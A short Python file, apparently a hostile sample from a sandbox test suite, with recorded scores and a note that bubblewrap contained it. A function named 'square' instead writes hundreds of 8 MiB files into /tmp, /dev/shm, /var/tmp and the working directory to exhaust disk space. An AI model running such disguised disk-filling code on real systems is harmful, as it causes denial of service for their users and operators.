"""Files until the disk is full.

scores: q1=0 q2=3 q3=2
holds: bubblewrap
"""

def square(x):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
        for number in range(200):
            try:
                with open(f"{folder}/filler-{number}", "wb") as file:
                    file.write(bytes(8 << 20))
            except OSError:
                break
    return 0
